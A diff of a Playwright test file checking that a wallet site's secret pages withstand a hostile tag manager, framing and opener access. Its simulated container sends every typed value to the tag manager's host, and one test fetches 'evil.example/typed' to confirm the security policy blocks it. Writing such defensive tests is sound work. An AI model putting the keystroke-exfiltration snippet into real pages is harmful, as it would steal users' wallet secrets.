@@ -5,16 +5,16 @@ import { KEY_TOOLS_PATH, SECRET_PATHS, WALLET_PATH } from '../../src/app/secrets
 import { expect, FAILED_REQUEST, filesSettled, openDirectly, test, type Watch } from './support/test';
 
 const TAG_HOST = 'www.googletagmanager.com';
-/** Stands in for a container that is hostile: whatever is typed anywhere leaves for its host. */
+/** Simulates a hostile container: anything typed anywhere is sent to its host. */
 const CONTAINER = `window.tagManagerRan = 1;
 addEventListener('input', ({ target }) => fetch('https://${TAG_HOST}/typed?' + target.value), true);`;
 const BLOCKED = /Content Security Policy|violates the following/;
 const SECRET_TEXT = 'abandon ability able';
 
-/** What only a page for secrets shows, once it has come to life. */
+/** An element that only a page for secrets shows, once it has hydrated. */
 const part = (path: string) =>
   path === WALLET_PATH ? '[href="https://wallet.atto.cash"]' : '[data-key-tools] [role="tab"]';
-/** The same, and the wallet's heading, wherever it is. */
+/** The same, and the wallet's heading, on any page. */
 const ANY_PART = '[data-key-tools] [role="tab"], main [href="https://wallet.atto.cash"]';
 
 const spellingsOf = (path: string) => {
@@ -32,28 +32,31 @@ const spellingsOf = (path: string) => {
   ];
 };
 
-/** The visitor agreed to the tag manager; notes each request to its host, and each document that may not show a part. */
-async function withHostileContainer(page: Page): Promise<{ asked: string[]; mounted: string[] }> {
-  const asked: string[] = [];
+/**
+ * Stores consent to the tag manager, and records each request to its host and each document that shows a secret part
+ * without permission.
+ */
+async function withHostileContainer(page: Page): Promise<{ requested: string[]; mounted: string[] }> {
+  const requested: string[] = [];
   const mounted: string[] = [];
   await page.route(`https://${TAG_HOST}/**`, (route) => {
-    asked.push(route.request().url());
+    requested.push(route.request().url());
     return route.fulfill({ contentType: 'text/javascript', body: CONTAINER });
   });
   await page.exposeFunction('partMounted', (where: string) => void mounted.push(where));
   await page.addInitScript((selector) => {
     localStorage.setItem('atto-consent', 'accepted');
-    const look = () => {
+    const recordMounted = () => {
       const written = document.querySelector<HTMLMetaElement>('meta[name="atto-document"]')?.content;
       if (document.querySelector(selector) && (written ?? 'own-node') === 'own-node')
         (window as unknown as { partMounted: (where: string) => void }).partMounted(location.pathname);
     };
-    new MutationObserver(look).observe(document, { subtree: true, childList: true });
+    new MutationObserver(recordMounted).observe(document, { subtree: true, childList: true });
   }, ANY_PART);
-  return { asked, mounted };
+  return { requested, mounted };
 }
 
-async function arrive(page: Page, path: string): Promise<void> {
+async function expectOn(page: Page, path: string): Promise<void> {
   await expect.poll(() => new URL(page.url()).pathname).toBe(path);
   await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true');
   await expect(page.locator(part(path)).first()).toBeVisible();
@@ -64,26 +67,26 @@ async function typeSecret(page: Page, path: string): Promise<void> {
   await page.locator('[data-key-tools]').getByRole('textbox').first().pressSequentially(SECRET_TEXT);
 }
 
-/** What a misspelt address says on the way: its page is not found, and its program may be told to go while it starts. */
+/** Messages that a misspelt URL may cause: its page is not found, and its script may be interrupted by the redirect. */
 function allowMisspelt(watch: Watch): void {
   watch.allowMessage(FAILED_REQUEST);
   watch.allowMessage(/onRecoverableError/);
 }
 
-test.describe('in a site with a hostile tag manager that the visitor agreed to', () => {
+test.describe('in a site with a hostile tag manager and the visitor’s consent', () => {
   test.use({ baseURL: process.env.ATTO_E2E_TAGGED_BASE! });
 
   for (const path of SECRET_PATHS) {
-    test(`every spelling of ${path} ends on its own document, and nothing typed there leaves`, async ({
+    test(`every spelling of ${path} ends on its own document, and nothing typed there leaks`, async ({
       page,
       watch,
       baseURL,
     }) => {
       allowMisspelt(watch);
-      const { asked, mounted } = await withHostileContainer(page);
+      const { requested, mounted } = await withHostileContainer(page);
       for (const spelling of spellingsOf(path)) {
         await page.goto(`${baseURL}${spelling}?a=1#b`, { waitUntil: 'commit' });
-        await arrive(page, path);
+        await expectOn(page, path);
         expect([spelling, new URL(page.url()).search + new URL(page.url()).hash]).toEqual([
           spelling,
           '?a=1#b',
@@ -91,13 +94,13 @@ test.describe('in a site with a hostile tag manager that the visitor agreed to',
         await typeSecret(page, path);
       }
       await filesSettled(page);
-      expect(asked).toEqual([]);
+      expect(requested).toEqual([]);
       expect(mounted).toEqual([]);
     });
 
     test(`a foreign pushState and popstate to ${path} end on its own document`, async ({ page, watch }) => {
       watch.allowHost(TAG_HOST);
-      const { asked, mounted } = await withHostileContainer(page);
+      const { requested, mounted } = await withHostileContainer(page);
       for (const spelling of [path, path.toUpperCase()]) {
         await openDirectly(page, '/help');
         await expect.poll(() => page.evaluate(() => 'tagManagerRan' in window)).toBe(true);
@@ -105,21 +108,21 @@ test.describe('in a site with a hostile tag manager that the visitor agreed to',
           history.pushState({}, '', `${to}?a=1#b`);
           dispatchEvent(new PopStateEvent('popstate', { state: {} }));
         }, spelling);
-        await arrive(page, path);
+        await expectOn(page, path);
         expect(await page.evaluate(() => 'tagManagerRan' in window)).toBe(false);
         expect(new URL(page.url()).search + new URL(page.url()).hash).toBe('?a=1#b');
         await typeSecret(page, path);
       }
       expect(mounted).toEqual([]);
-      expect(asked.filter((url) => url.includes('typed'))).toEqual([]);
+      expect(requested.filter((url) => url.includes('typed'))).toEqual([]);
     });
 
-    test(`a foreign step away from ${path} takes its document along, and the tag manager comes after that`, async ({
+    test(`a foreign navigation away from ${path} unloads its document before the tag manager loads`, async ({
       page,
       watch,
     }) => {
       watch.allowHost(TAG_HOST);
-      const { asked } = await withHostileContainer(page);
+      const { requested } = await withHostileContainer(page);
       await openDirectly(page, path);
       await typeSecret(page, path);
       await page.evaluate(() => {
@@ -129,14 +132,14 @@ test.describe('in a site with a hostile tag manager that the visitor agreed to',
       });
       await expect.poll(() => page.evaluate(() => 'tagManagerRan' in window).catch(() => false)).toBe(true);
       expect(await page.evaluate(() => 'isOfSecrets' in window)).toBe(false);
-      expect(asked.filter((url) => url.includes('typed'))).toEqual([]);
+      expect(requested.filter((url) => url.includes('typed'))).toEqual([]);
     });
   }
 });
 
 for (const path of SECRET_PATHS) {
   for (const spelling of [path, path.toUpperCase()]) {
-    test(`a script of the blog that opens ${spelling} cannot reach into it`, async ({
+    test(`a script of the blog that opens ${spelling} cannot access its window`, async ({
       page,
       context,
       watch,
@@ -146,19 +149,19 @@ for (const path of SECRET_PATHS) {
       const opening = context.waitForEvent('page');
       await page.evaluate((to) => void Object.assign(window, { opened: window.open(to) }), spelling);
       const opened = await opening;
-      await arrive(opened, path);
-      // A window that was cut off looks closed to the one that opened it.
-      const reach = () => {
+      await expectOn(opened, path);
+      // An isolated window looks closed to the one that opened it.
+      const readOpened = () => {
         const { opened } = window as unknown as { opened: Window };
         return opened.closed ? 'cut off' : opened.document.body.innerText;
       };
-      expect(await page.evaluate(reach)).toBe('cut off');
+      expect(await page.evaluate(readOpened)).toBe('cut off');
       expect(await opened.evaluate(() => window.opener)).toBeNull();
     });
   }
 }
 
-/** The site on a host that knows nothing of `_headers`. */
+/** The site on a host that ignores `_headers`. */
 async function withoutHeaders(page: Page, baseURL: string): Promise<void> {
   await page.context().route(`${baseURL}/**`, async (route) => {
     if (route.request().resourceType() !== 'document') return route.fallback();
@@ -169,7 +172,7 @@ async function withoutHeaders(page: Page, baseURL: string): Promise<void> {
 
 test.describe('on a host that ignores the headers of the build', () => {
   for (const path of SECRET_PATHS) {
-    test(`${path} keeps a policy of its own`, async ({ page, watch, baseURL }) => {
+    test(`${path} has its own policy`, async ({ page, watch, baseURL }) => {
       await withoutHeaders(page, baseURL!);
       const reached: string[] = [];
       await page.route('https://*.example/**', (route) => {
@@ -181,7 +184,7 @@ test.describe('on a host that ignores the headers of the build', () => {
       watch.allowMessage(BLOCKED);
       watch.allowHost('evil.example');
       const tried = await page.evaluate(async () => {
-        const asked = await fetch('https://evil.example/typed').then(
+        const requested = await fetch('https://evil.example/typed').then(
           () => 'asked',
           () => 'refused',
         );
@@ -192,13 +195,13 @@ test.describe('on a host that ignores the headers of the build', () => {
           script.onerror = () => resolve('refused');
           document.head.append(script);
         });
-        return [asked, loaded];
+        return [requested, loaded];
       });
       expect(tried).toEqual(['refused', 'refused']);
       expect(reached).toEqual([]);
     });
 
-    test(`${path} does not start in a frame, nor in a window that another page holds`, async ({
+    test(`${path} does not start in a frame, nor in a window that another page controls`, async ({
       page,
       context,
       watch,
@@ -251,17 +254,17 @@ test('under the headers of the build no page may frame a secret one, in any spel
     expect(await frame.locator('main, #__docusaurus').count()).toBe(0);
 });
 
-test('a host that leads back to another spelling ends on a page that says where to go', async ({
+test('on a host that redirects to another spelling, a page says where to go', async ({
   page,
   watch,
   baseURL,
 }) => {
   allowMisspelt(watch);
-  const asked: string[] = [];
-  // Such a host adds a slash, and has nothing there.
+  const requested: string[] = [];
+  // Such a host adds a slash, and has no page there.
   const host = createServer(async (request, response) => {
     const path = request.url ?? '/';
-    if (path.startsWith('/wallet')) asked.push(path);
+    if (path.startsWith('/wallet')) requested.push(path);
     if (path === '/wallet') return void response.writeHead(301, { location: '/wallet/' }).end();
     const reply = await fetch(baseURL + (path === '/wallet/' ? '/no-such-page' : path));
     response.writeHead(reply.status, { 'content-type': reply.headers.get('content-type') ?? '' });
@@ -275,7 +278,7 @@ test('a host that leads back to another spelling ends on a page that says where 
     const refused = page.locator('[data-secret-refused="other-document"] a');
     await expect(refused).toHaveAttribute('href', '/wallet');
     await filesSettled(page);
-    expect(asked).toEqual(['/wallet/', '/wallet', '/wallet/']);
+    expect(requested).toEqual(['/wallet/', '/wallet', '/wallet/']);
   } finally {
     host.close();
     host.closeAllConnections();
